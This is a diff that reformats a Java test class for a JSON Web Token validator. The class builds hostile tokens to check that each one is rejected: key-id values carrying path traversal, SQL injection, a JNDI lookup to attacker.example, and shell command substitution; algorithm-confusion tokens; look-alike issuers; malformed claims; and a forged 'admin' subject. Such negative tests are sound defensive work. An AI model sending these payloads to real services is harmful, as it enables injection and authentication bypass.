@@ -20,8 +20,7 @@ final class HostileContents {
 
     private static final Map<String, String> ORDERS = Map.of(
             "ES256", "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551",
-            "ES384",
-                    "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973",
+            "ES384", "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973",
             "ES512",
                     "01fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa"
                             + "51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409");
@@ -64,9 +63,23 @@ final class HostileContents {
 
     private void namesOfKeys() {
         for (String keyId : List.of(
-                "../../../../dev/null", "/dev/null", "' OR '1'='1", "rsa-1' UNION SELECT 'x", "rsa-1\u0000", " rsa-1",
-                "rsa-1 ", "RSA-1", "rsa\u20101", "\u202e1-asr", "", "${jndi:ldap://attacker.example}", "$(id)", "`id`",
-                "http://attacker.example/key", "rsa-1\r\nX: y", "x".repeat(20_000))) {
+                "../../../../dev/null",
+                "/dev/null",
+                "' OR '1'='1",
+                "rsa-1' UNION SELECT 'x",
+                "rsa-1\u0000",
+                " rsa-1",
+                "rsa-1 ",
+                "RSA-1",
+                "rsa\u20101",
+                "\u202e1-asr",
+                "",
+                "${jndi:ldap://attacker.example}",
+                "$(id)",
+                "`id`",
+                "http://attacker.example/key",
+                "rsa-1\r\nX: y",
+                "x".repeat(20_000))) {
             String shown = keyId.length() > 30 ? keyId.substring(0, 30) + "..." : keyId;
             hostile.header("kid \"" + shown + '"', EXTRACT, header -> header.put("kid", keyId));
         }
@@ -75,13 +88,19 @@ final class HostileContents {
     private void otherKeys() { // RFC 8725 section 3.1: algorithm and key must fit
         for (String algorithm : List.of("PS256", "PS384", "PS512", "RS384", "RS512")) {
             Map<String, Object> header = hostile.key().header(algorithm);
-            hostile.add(algorithm + " in the header, RS256 beneath", hostile.key().sign(header, "RS256", hostile.claims()), SIGNATURE);
+            hostile.add(
+                    algorithm + " in the header, RS256 beneath",
+                    hostile.key().sign(header, "RS256", hostile.claims()),
+                    SIGNATURE);
         }
         for (String algorithm : List.of("ES256", "ES384", "ES512", "EdDSA", "Ed448", "ES256K", "ML-DSA-44")) {
             TestKey other = TestKey.forAlgorithm(algorithm);
             Map<String, Object> header = other.header(algorithm);
             header.put("kid", hostile.key().keyId());
-            hostile.add(algorithm + " with the kid of an RSA key", other.sign(header, algorithm, hostile.claims()), EXTRACT);
+            hostile.add(
+                    algorithm + " with the kid of an RSA key",
+                    other.sign(header, algorithm, hostile.claims()),
+                    EXTRACT);
         }
         for (String algorithm : List.of("ES256", "ES384")) {
             TestKey other = TestKey.forAlgorithm(algorithm.equals("ES256") ? "ES384" : "ES256");
@@ -161,12 +180,27 @@ final class HostileContents {
     private void issuersThatLookAlike() { // RFC 8725 section 3.8
         String issuer = String.valueOf(hostile.claims().get("iss"));
         List<String> others = new ArrayList<>(List.of(
-                issuer + "/", issuer + "//", issuer + "?", issuer + "#", issuer + "/../main", issuer + "%2f",
-                issuer.replace("http", "HTTP"), issuer.replace("main", "Main"), issuer.replace("main", "m\u0430in"),
-                issuer.replace("main", "main\u200b"), issuer.replace("main", "ma\u0131n"), issuer.replace("127.0.0.1", "127.1"),
-                issuer.replace("127.0.0.1", "2130706433"), issuer.replace("127.0.0.1", "localhost"),
-                issuer.replace("127.0.0.1", "127.0.0.1."), issuer.replace("://", "://user@"), " " + issuer, issuer + " ",
-                issuer + "\u0000", "", "https://attacker.example"));
+                issuer + "/",
+                issuer + "//",
+                issuer + "?",
+                issuer + "#",
+                issuer + "/../main",
+                issuer + "%2f",
+                issuer.replace("http", "HTTP"),
+                issuer.replace("main", "Main"),
+                issuer.replace("main", "m\u0430in"),
+                issuer.replace("main", "main\u200b"),
+                issuer.replace("main", "ma\u0131n"),
+                issuer.replace("127.0.0.1", "127.1"),
+                issuer.replace("127.0.0.1", "2130706433"),
+                issuer.replace("127.0.0.1", "localhost"),
+                issuer.replace("127.0.0.1", "127.0.0.1."),
+                issuer.replace("://", "://user@"),
+                " " + issuer,
+                issuer + " ",
+                issuer + "\u0000",
+                "",
+                "https://attacker.example"));
         others.forEach(other -> hostile.claim("iss", other));
         hostile.claim("iss", List.of(issuer));
         hostile.claim("iss", 1);
@@ -176,15 +210,37 @@ final class HostileContents {
 
     private void claims() {
         for (Object audience : List.of(
-                "My-app", "my-app ", "my-ap", "my-app2", "", List.of(), List.of("other"), List.of(List.of("my-app")), 1, true,
-                Map.of("my-app", 1), List.of("my-app", "other"), List.of("my-app", 1))) {
+                "My-app",
+                "my-app ",
+                "my-ap",
+                "my-app2",
+                "",
+                List.of(),
+                List.of("other"),
+                List.of(List.of("my-app")),
+                1,
+                true,
+                Map.of("my-app", 1),
+                List.of("my-app", "other"),
+                List.of("my-app", 1))) {
             hostile.claim("aud", audience);
         }
         for (Object party : List.of("other", "", 1, List.of("my-app"))) {
             hostile.claim("azp", party);
         }
-        for (Object expiry : List.of(0, 1, now - 300, now - 100_000, -1, "9999999999", "", true, List.of(now), Map.of(),
-                new BigInteger("9".repeat(300)), new java.math.BigDecimal("1e300"))) {
+        for (Object expiry : List.of(
+                0,
+                1,
+                now - 300,
+                now - 100_000,
+                -1,
+                "9999999999",
+                "",
+                true,
+                List.of(now),
+                Map.of(),
+                new BigInteger("9".repeat(300)),
+                new java.math.BigDecimal("1e300"))) {
             hostile.claim("exp", expiry);
         }
         for (String time : List.of("nbf", "iat")) {
@@ -213,6 +269,8 @@ final class HostileContents {
         Map<String, Object> claims = hostile.claims();
         claims.put("sub", "admin");
         int first = token.indexOf('.');
-        return token.substring(0, first + 1) + Base64Url.encode(Json.write(claims)) + token.substring(token.lastIndexOf('.'));
+        return token.substring(0, first + 1)
+                + Base64Url.encode(Json.write(claims))
+                + token.substring(token.lastIndexOf('.'));
     }
 }
